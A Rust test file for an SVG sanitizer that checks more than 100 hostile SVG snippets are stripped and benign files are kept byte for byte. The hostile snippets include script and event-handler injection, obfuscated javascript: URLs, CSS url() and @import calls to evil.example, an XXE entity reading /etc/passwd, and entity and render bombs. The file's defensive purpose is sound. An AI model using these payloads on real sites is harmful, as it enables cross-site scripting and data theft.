//! Hostile files, plain files, and a law: what is clean stays as it is.

use proptest::prelude::*;

use super::*;

/// A file with this in it.
fn file(inner: &str) -> String {
    format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" viewBox=\"0 0 10 10\">{inner}<rect id=\"r\" width=\"5\" height=\"5\"/></svg>"
    )
}

fn cleaned(svg: &str) -> Cleaned {
    let cleaned = clean(svg).unwrap_or_else(|fault| panic!("{}: {svg}", fault.message));
    let again = clean(&cleaned.svg).expect("what was written can be read");
    assert_eq!(again, Cleaned { svg: cleaned.svg.clone(), removed: Vec::new() }, "cleaning twice is cleaning once: {svg}");
    cleaned
}

/// What was taken out, in words.
fn words(cleaned: &Cleaned) -> Vec<&str> {
    cleaned.removed.iter().map(|one| one.what.as_str()).collect()
}

/// Each would do something: the word `evil` stands where it would happen, and must be gone.
const HOSTILE: &[&str] = &[
    "<script>evil()</script>",
    "<script href=\"evil.js\"/>",
    "<script xlink:href=\"data:text/javascript,evil()\"/>",
    "<script type=\"text/ecmascript\"><![CDATA[evil()]]></script>",
    "<g onload=\"evil()\"/>",
    "<g ONLOAD=\"evil()\" onClick=\"evil()\"/>",
    "<rect onmouseover=\"evil()\" onfocus=\"evil()\" width=\"1\"/>",
    "<rect onbegin=\"evil()\" onactivate=\"evil()\"/>",
    "<a href=\"javascript:evil()\"><text>x</text></a>",
    "<a xlink:href=\"javascript:evil()\"><text>x</text></a>",
    "<a href=\" &#1114109;javascript:evil()\"/>",
    "<a href=\"java&#10;script:evil()\"/>",
    "<a href=\"java&#9;script:evil()\"/>",
    "<a href=\"&#x6A;avascript:evil()\"/>",
    "<a href=\"JaVaScRiPt:evil()\"/>",
    "<a href=\"vbscript:evil()\"/>",
    "<a href=\"data:text/html,evil\"/>",
    "<a href=\"data:image/svg+xml,evil\"/>",
    "<a href=\"//evil.example/\"/>",
    "<a href=\"/\\evil.example/\"/>",
    "<a href=\"https://a.example/\\evil\"/>",
    "<a href=\"file:///evil\"/>",
    "<a href=\"blob:evil\"/>",
    "<a href=\"#r\" xlink:href=\"javascript:evil()\"/>",
    "<a href=\"#r\" ping=\"https://evil.example\" target=\"evil\" download=\"evil\"/>",
    "<a href=\"#r\"><animate attributeName=\"href\" values=\"javascript:evil()\"/></a>",
    "<a href=\"#r\"><animate attributeName=\"xlink:href\" to=\"javascript:evil()\" begin=\"0s\"/></a>",
    "<a href=\"#r\"><set attributeName=\"href\" to=\"javascript:evil()\"/></a>",
    "<set attributeName=\"onmouseover\" to=\"evil()\"/>",
    "<set xlink:href=\"#r\" attributeName=\"onclick\" to=\"evil()\"/>",
    "<animate onbegin=\"evil()\" attributeName=\"x\" dur=\"1s\"/>",
    "<animateTransform attributeName=\"transform\" onend=\"evil()\"/>",
    "<animateMotion><mpath href=\"https://evil.example/p.svg#p\"/></animateMotion>",
    "<animateColor attributeName=\"fill\" onbegin=\"evil()\"/>",
    "<discard onbegin=\"evil()\"/>",
    "<foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\"><img src=\"x\" onerror=\"evil()\"/></body></foreignObject>",
    "<foreignObject><iframe src=\"javascript:evil()\"/></foreignObject>",
    "<iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"https://evil.example\"/>",
    "<h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">evil()</h:script>",
    "<s:script xmlns:s=\"http://www.w3.org/2000/svg\">evil()</s:script>",
    "<g xmlns:e=\"http://www.w3.org/2001/xml-events\" e:handler=\"#evil\"/>",
    "<handler xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=\"load\">evil()</handler>",
    "<embed xmlns=\"http://www.w3.org/1999/xhtml\" src=\"evil.svg\"/>",
    "<audio xmlns=\"http://www.w3.org/1999/xhtml\" src=\"evil\" onerror=\"evil()\"/>",
    "<title><h:img xmlns:h=\"http://www.w3.org/1999/xhtml\" src=\"x\" onerror=\"evil()\"/></title>",
    "<title><style>evil</style></title>",
    "<desc><script>evil()</script></desc>",
    "<metadata>evil</metadata>",
    "<use href=\"https://evil.example/a.svg#x\"/>",
    "<use xlink:href=\"evil.svg#x\"/>",
    "<use href=\"data:image/svg+xml;base64,PHN2ZyBpZD0nZXZpbCc+\" class=\"evil-not\" onload=\"evil()\"/>",
    "<use href=\"data:image/png;base64,evil\"/>",
    "<image href=\"https://evil.example/a.png\" width=\"1\" height=\"1\"/>",
    "<image xlink:href=\"evil.png\"/>",
    "<image href=\"file:///etc/evil\"/>",
    "<image href=\"data:image/svg+xml;utf8,&lt;svg onload='evil()'/>\"/>",
    "<image href=\"data:image/svg+xml;base64,evil\"/>",
    "<image href=\"data:text/html;base64,evil\"/>",
    "<image href=\"data:image/png;base64,evil&quot; onload=&quot;evil()\"/>",
    "<image href=\"data:image/png,evil\"/>",
    "<filter id=\"f\"><feImage href=\"https://evil.example/a.png\"/></filter>",
    "<filter id=\"f\"><feImage xlink:href=\"evil.svg#a\"/></filter>",
    "<linearGradient id=\"g\" href=\"https://evil.example/g.svg#g\"/>",
    "<pattern id=\"p\" xlink:href=\"evil.svg#p\"/>",
    "<text><textPath href=\"https://evil.example#p\">x</textPath></text>",
    "<text><tref xlink:href=\"https://evil.example#p\"/></text>",
    "<font-face><font-face-src><font-face-uri xlink:href=\"evil.svg\"/></font-face-src></font-face>",
    "<cursor xlink:href=\"https://evil.example/c.png\"/>",
    "<color-profile xlink:href=\"https://evil.example/c.icc\"/>",
    "<rect fill=\"url(https://evil.example/p.svg#p)\"/>",
    "<rect fill=\"url('//evil.example/p.svg#p') red\"/>",
    "<rect fill=\"URL(evil.svg#p)\"/>",
    "<rect fill=\"\\75 rl(https://evil.example)\"/>",
    "<rect fill=\"u/**/rl(evil)\"/>",
    "<rect fill=\"url(/**/https://evil.example)\"/>",
    "<rect fill=\"url(#r) url(https://evil.example)\"/>",
    "<rect filter=\"url(https://evil.example/f.svg#f)\"/>",
    "<rect mask=\"url(evil.svg#m)\" clip-path=\"url(evil.svg#c)\" marker-end=\"url(evil.svg#m)\"/>",
    "<rect cursor=\"url(https://evil.example/c.cur), auto\"/>",
    "<rect fill=\"image-set('https://evil.example' 1x)\"/>",
    "<rect fill=\"src('https://evil.example')\"/>",
    "<rect style=\"fill:url(https://evil.example)\"/>",
    "<rect style=\"fill:red;background:url(https://evil.example)\"/>",
    "<rect style=\"fill:\\75rl(https://evil.example)\"/>",
    "<rect style=\"-moz-binding:url(https://evil.example/x.xml#x)\"/>",
    "<rect style=\"behavior:url(evil.htc)\"/>",
    "<rect style=\"width:expression(evil())\"/>",
    "<rect style=\"--x:url(https://evil.example)\"/>",
    "<rect style=\"--x:{evil:1}\"/>",
    "<rect style=\"fill:red\\;evil:1\"/>",
    "<style>@import 'https://evil.example/a.css';</style>",
    "<style>@import url(https://evil.example/a.css);</style>",
    "<style>@\\69mport 'https://evil.example/a.css';</style>",
    "<style><![CDATA[@import 'https://evil.example/a.css'; rect{fill:red}]]></style>",
    "<style>@font-face{font-family:a;src:url(https://evil.example/a.woff)}</style>",
    "<style>rect{background:url(https://evil.example)}</style>",
    "<style>rect{fill:url('https://evil.example#x')}</style>",
    "<style>rect{fill:red;cursor:url(evil.cur)}</style>",
    "<style>@media screen{rect{fill:url(https://evil.example)}}</style>",
    "<style>@media screen{@import 'evil.css';}</style>",
    "<style>@namespace evil 'https://evil.example';</style>",
    "<style>@keyframes evil{to{fill:red}}</style>",
    "<style>@supports (fill:red){rect{fill:url(evil.svg)}}</style>",
    "<style>@document url(https://evil.example){rect{fill:red}}</style>",
    "<style>rect{fill:\"a\nurl(https://evil.example)}</style>",
    "<style>rect{g{fill:url(https://evil.example)}}</style>",
    "<style>rect{fill:red}&lt;/style>&lt;script>evil()&lt;/script></style>",
    "<style>input[value^='a']{background-image:url(https://evil.example/a)}</style>",
    "<style>rect{fill:attr(evil url)}</style>",
    "<style>rect{-webkit-mask:-webkit-image-set(url(https://evil.example) 1x)}</style>",
    "<style type=\"text/css\">/*</style><style>*/ @import 'evil.css';</style>",
    "<?xml-stylesheet href=\"https://evil.example/a.css\"?>",
    "<g xml:base=\"https://evil.example/\"><use href=\"#r\"/></g>",
    "<g data-evil=\"1\" formaction=\"javascript:evil()\" srcdoc=\"evil\"/>",
    "<svg><script>evil()</script></svg>",
    "<switch><foreignObject requiredExtensions=\"http://www.w3.org/1999/xhtml\">evil</foreignObject><text>seen</text></switch>",
];

#[test]
fn nothing_hostile_is_left() {
    assert!(HOSTILE.len() > 100);
    for inner in HOSTILE {
        let cleaned = cleaned(&file(inner));
        let left = cleaned.svg.replace("evil-not", "").to_ascii_lowercase();
        for word in ["evil", "script", "foreignobject", "animate", "@import", "expression", "onload", "xml:base"] {
            assert!(!left.contains(word), "`{word}` is left of {inner}: {}", cleaned.svg);
        }
        assert!(
            !cleaned.removed.is_empty() || inner.contains("xlink:href=\"javascript:evil()\"/>") || inner.starts_with("<style type"),
            "{inner}"
        );
        assert!(cleaned.svg.contains("<rect id=\"r\" width=\"5\" height=\"5\"/>"), "what is harmless stays: {}", cleaned.svg);
    }
}

#[test]
fn hostile_roots_and_heads() {
    let hostile = [
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"evil()\"/>",
        "<?xml version=\"1.0\"?><?xml-stylesheet href=\"evil.css\"?><svg xmlns=\"http://www.w3.org/2000/svg\"/>",
        "<!DOCTYPE svg SYSTEM \"https://evil.example/a.dtd\"><svg xmlns=\"http://www.w3.org/2000/svg\"/>",
        "<s:svg xmlns:s=\"http://www.w3.org/2000/svg\"><s:script>evil()</s:script></s:svg>",
        "<svg onload=\"evil()\"><script>evil()</script></svg>",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"/><!-- <script>evil()</script> -->",
    ];
    for svg in hostile {
        let svg = cleaned(svg).svg;
        assert!(!svg.contains("evil") && svg.starts_with("<svg xmlns=\"http://www.w3.org/2000/svg\""), "{svg}");
    }
}

#[test]
fn what_is_no_svg_is_a_fault_with_a_place() {
    let laughs =
        "<!DOCTYPE svg [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&b;</text></svg>";
    let outside = "<!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><svg><text>&x;</text></svg>";
    for (svg, words, place) in [
        (laughs, "declares entities", "<!ENTITY"),
        (outside, "declares entities", "<!ENTITY"),
        ("<svg><g></svg>", "not well-formed", "</svg>"),
        ("<svg>\n<é a=1/></svg>", "not well-formed", "1/>"),
        ("<svg><text>&nbsp;</text></svg>", "not well-formed", "&nbsp;"),
        ("<html xmlns=\"http://www.w3.org/1999/xhtml\"><svg/></html>", "outermost", "<html"),
        ("<x:svg xmlns:x=\"https://other.example\"/>", "outermost", "<x:svg"),
        ("<rect/>", "outermost", "<rect"),
        ("", "not well-formed", ""),
        ("just text", "not well-formed", ""),
    ] {
        let fault = clean(svg).expect_err(svg);
        assert!(fault.message.contains(words), "{svg}: {}", fault.message);
        assert!(svg[fault.span.start..].starts_with(place), "{svg}: {fault:?}");
    }
}

#[test]
fn depth_and_number_are_bounded() {
    let deep = |count: usize| format!("<svg>{}{}</svg>", "<g>".repeat(count), "</g>".repeat(count));
    assert!(clean(&deep(90)).is_ok());
    for count in [101, 150_000] {
        assert!(clean(&deep(count)).is_err_and(|fault| fault.message.contains("deep")), "{count}");
    }
    let many = format!("<svg>{}</svg>", "<g/>".repeat(budget::SVG_NODES as usize));
    assert!(clean(&many).is_err_and(|fault| fault.message.contains("more than")));
    let large = " ".repeat(budget::SVG_FILE + 1);
    assert!(clean(&large).is_err_and(|fault| fault.message.contains("larger than 8 MiB")));
    let nested = file(&format!("<rect style=\"--x:{}1{}\"/>", "calc(".repeat(5_000), ")".repeat(5_000)));
    assert!(!cleaned(&nested).svg.contains("calc"));
}

#[test]
fn a_few_lines_that_draw_very_much_are_refused() {
    let level = |n: usize| ["<g id=\"l", &(n + 1).to_string(), "\">", &format!("<use href=\"#l{n}\"/>").repeat(10), "</g>"].concat();
    let bomb =
        |levels: usize| file(&format!("<defs><g id=\"l0\"><rect/></g>{}</defs>", (0..levels).map(level).collect::<Vec<_>>().concat()));
    assert!(clean(&bomb(3)).is_ok());
    assert!(clean(&bomb(12)).is_err_and(|fault| fault.message.contains("draws more than 1000000")));
    let circle = file("<g id=\"a\"><use href=\"#b\"/></g><g id=\"b\"><use href=\"#a\"/></g>");
    assert!(clean(&circle).is_ok());
    let link = |n: usize| format!("<g id=\"c{n}\"><use href=\"#c{}\"/></g>", n + 1);
    assert!(clean(&file(&(0..5_000).map(link).collect::<Vec<_>>().concat())).is_err_and(|fault| fault.message.contains("deep")));
    let gradients = "<rect fill=\"url(#g)\"/>".repeat(10_000);
    assert!(clean(&file(&format!("<linearGradient id=\"g\"><stop/><stop/></linearGradient>{gradients}"))).is_ok());
}

/// Files that stay as they are, to the byte.
const PLAIN: &[&str] = &[
    "<g id=\"Ebene_1\" transform=\"translate(1.50 -2)\"><path d=\"M0 0h10.250v-.5e1Z\" fill=\"#0af\" stroke-width=\"0.750\"/></g>",
    "<text x=\"1\" y=\"2\" xml:space=\"preserve\" font-family=\"'Noto Sans', sans-serif\">  two  <tspan dy=\"1em\" font-weight=\"700\">spaces</tspan> </text>",
    "<title>Steel &amp; coal</title><desc>a &lt; b\n  c</desc>",
    "<linearGradient id=\"g\" gradientUnits=\"userSpaceOnUse\" x1=\"0\" x2=\"1\"><stop offset=\"0\" stop-color=\"red\"/></linearGradient><circle r=\"2\" fill=\"url(#g)\"/>",
    "<radialGradient id=\"h\" href=\"#g\" fr=\"1\"/><ellipse rx=\"1\" ry=\"2\" stroke=\"url('#h') none\"/>",
    "<pattern id=\"p\" width=\"4\" height=\"4\" patternUnits=\"userSpaceOnUse\"><line x1=\"0\" y1=\"0\" x2=\"4\" y2=\"4\"/></pattern>",
    "<clipPath id=\"c\"><rect width=\"3\" height=\"3\"/></clipPath><g clip-path=\"url(#c)\" mask=\"url(#m)\"/><mask id=\"m\" maskUnits=\"userSpaceOnUse\"/>",
    "<marker id=\"a\" viewBox=\"0 0 10 10\" refX=\"5\" orient=\"auto-start-reverse\"><polygon points=\"0,0 10,5 0,10\"/></marker><polyline points=\"0 0 1 1\" marker-end=\"url(#a)\"/>",
    "<filter id=\"f\" x=\"-10%\"><feGaussianBlur in=\"SourceAlpha\" stdDeviation=\"2 3\" result=\"b\"/><feOffset dx=\"1\"/><feMerge><feMergeNode in=\"b\"/></feMerge></filter>",
    "<filter id=\"f\"><feColorMatrix type=\"matrix\" values=\"1 0 0 0 0 0 1 0 0 0 0 0 1 0 0 0 0 0 1 0\"/><feComponentTransfer><feFuncA type=\"linear\" slope=\".3\"/></feComponentTransfer></filter>",
    "<symbol id=\"s\" viewBox=\"0 0 1 1\"><circle r=\"1\"/></symbol><use href=\"#s\" x=\"3\"/>",
    "<a href=\"https://example.org/a?b=1&amp;c=2#d\"><text>source</text></a><a href=\"#r\"><text>within</text></a>",
    "<image href=\"data:image/png;base64,iVBORw0KGgo=\" width=\"1\" height=\"1\" preserveAspectRatio=\"xMidYMid slice\"/>",
    "<style>/* lines */ .a, #b &gt; rect:nth-child(2n+1) { fill: var(--accent, #123); stroke: rgb(1 2 3 / 50%) }</style>",
    "<style>@media (prefers-color-scheme: dark) { .a { fill: light-dark(#fff, #000) } }</style>",
    "<style type=\"text/css\">.a{fill:url(#g);font:italic 12px/1.2 \"Noto Sans\",sans-serif;transform:rotate(-45deg) !important}</style>",
    "<rect style=\"fill:#fff;fill-opacity:0.50;filter:drop-shadow(1px 1px 2px #0008)\" class=\"a b\"/>",
    "<g role=\"img\" aria-labelledby=\"t d\" lang=\"zh\"><text>河南 2022</text></g>",
    "<switch><text systemLanguage=\"zh\">钢</text><text>steel</text></switch>",
    "<path d=\"M0,0L1-1\"/>\n  <g/>\n\t<text>a&#13;b</text>",
];

#[test]
fn plain_files_stay_as_they_are() {
    for inner in PLAIN {
        let svg = format!("<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"100\" viewBox=\"0 0 10 10\">{inner}</svg>\n");
        assert_eq!(clean(&svg), Ok(Cleaned { svg: svg.clone(), removed: Vec::new() }));
    }
}

#[test]
fn files_of_drawing_programs_are_read() {
    let svg = "\u{feff}<?xml version=\"1.0\" encoding=\"UTF-8\"?>
<!-- made by a program -->
<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">
<svg xmlns:dc=\"http://purl.org/dc/elements/1.1/\" xmlns:sodipodi=\"http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd\" xmlns:inkscape=\"http://www.inkscape.org/namespaces/inkscape\" xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"10mm\" inkscape:version=\"1.3\" enable-background=\"new 0 0 10 10\">
<sodipodi:namedview id=\"n\"><inkscape:grid/></sodipodi:namedview><metadata><dc:title>x</dc:title></metadata>
<g inkscape:label=\"Layer 1\" style=\"display:inline;-inkscape-font-specification:Sans\"><use xlink:href=\"#a\" xlink:title=\"t\"/></g></svg>";
    let cleaned = cleaned(svg);
    assert_eq!(
        cleaned.svg,
        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10mm\" enable-background=\"new 0 0 10 10\">\n\n<g style=\"display: inline\"><use href=\"#a\"/></g></svg>\n"
    );
    let removed = [
        "the element `metadata`",
        "the property `-inkscape-font-specification`",
        "what belongs to `inkscape`",
        "what belongs to `sodipodi`",
    ];
    assert_eq!(words(&cleaned), removed);
    assert!(cleaned.removed.iter().all(|one| one.note), "only notes of the program");
}

#[test]
fn what_is_removed_is_said_once_and_in_words() {
    let inner = "<script/><script/><g onclick=\"\" onclick2=\"\"/><a href=\"javascript:x\"/><rect fill=\"url(x)\" style=\"behavior:x;fill:attr(x)\"/><style>@import 'x'; a{</style>";
    let removed = [
        "a value of `fill`",
        "the address of `a` that leads elsewhere",
        "the attribute `onclick2`",
        "the attribute `onclick`",
        "the element `script`",
        "the property `behavior`",
        "the rule `@import`",
    ];
    let svg = file(inner);
    let cleaned = cleaned(&svg);
    assert_eq!(words(&cleaned), removed);
    let places: Vec<&str> = cleaned.removed.iter().map(|one| &svg[one.span.range()]).collect();
    let expected = [
        "fill=\"url(x)\"",
        "href=\"javascript:x\"",
        "onclick2=\"\"",
        "onclick=\"\"",
        "<script",
        "style=\"behavior:x;fill:attr(x)\"",
        "<style",
    ];
    assert_eq!(places, expected);
    assert!(cleaned.removed.iter().all(|one| !one.note));
}

#[test]
fn a_style_keeps_what_is_harmless_of_it() {
    let style = |style: &str| cleaned(&file(&format!("<style>{style}</style>"))).svg;
    let svg = style("@import 'x'; .a{fill:red;background:url(x)} .b{stroke:blue} @media print{.c{fill:url(x);r:1px}} 1{{");
    for part in [".a { fill: red }", ".b { stroke: blue }", "@media print {\n.c { r: 1px }\n}"] {
        assert!(svg.contains(part), "{part}: {svg}");
    }
    assert!(!svg.contains("@import") && !svg.contains("url("), "{svg}");
}

proptest! {
    #[test]
    fn any_text_is_cleaned_once_and_for_all(parts in proptest::collection::vec(proptest::sample::select(pieces()), 0..14)) {
        if let Ok(cleaned) = clean(&file(&parts.concat())) {
            let again = clean(&cleaned.svg);
            prop_assert_eq!(again, Ok(Cleaned { svg: cleaned.svg.clone(), removed: Vec::new() }));
            prop_assert!(!cleaned.svg.contains("evil()"));
        }
    }

    #[test]
    fn any_style_is_cleaned_once_and_for_all(parts in proptest::collection::vec(proptest::sample::select(tokens()), 0..20)) {
        let sheet = parts.concat().replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
        for inner in [format!("<style>{sheet}</style>"), format!("<g style=\"{}\"/>", sheet.replace('"', "&quot;")), format!("<g fill=\"{}\"/>", sheet.replace('"', "&quot;"))] {
            let cleaned = clean(&file(&inner)).expect("well-formed");
            let again = clean(&cleaned.svg);
            prop_assert_eq!(again, Ok(Cleaned { svg: cleaned.svg.clone(), removed: Vec::new() }), "{}", inner);
        }
    }
}

/// Pieces of files, hostile and plain.
fn pieces() -> Vec<&'static str> {
    HOSTILE.iter().chain(PLAIN).copied().chain(["<g>", "</g>", "<!-- -->", "<![CDATA[<b>]]>", "text", "&#13;&#10;", "<title>"]).collect()
}

fn tokens() -> Vec<&'static str> {
    vec![
        "a",
        ".b",
        "#c",
        "{",
        "}",
        "(",
        ")",
        "[",
        "]",
        ":",
        ";",
        ",",
        " ",
        "\n",
        "fill",
        "stroke",
        "--x",
        "red",
        "url(",
        "url(#a)",
        "url(http://x)",
        "'",
        "\"",
        "\\",
        "/*",
        "*/",
        "@media",
        "@import",
        "@charset",
        "!important",
        "<",
        ">",
        "&",
        "1.5px",
        "50%",
        "calc(",
        "var(",
        "attr(",
        "<!--",
        "-->",
        "é",
        "u+1",
        "\r",
    ]
}
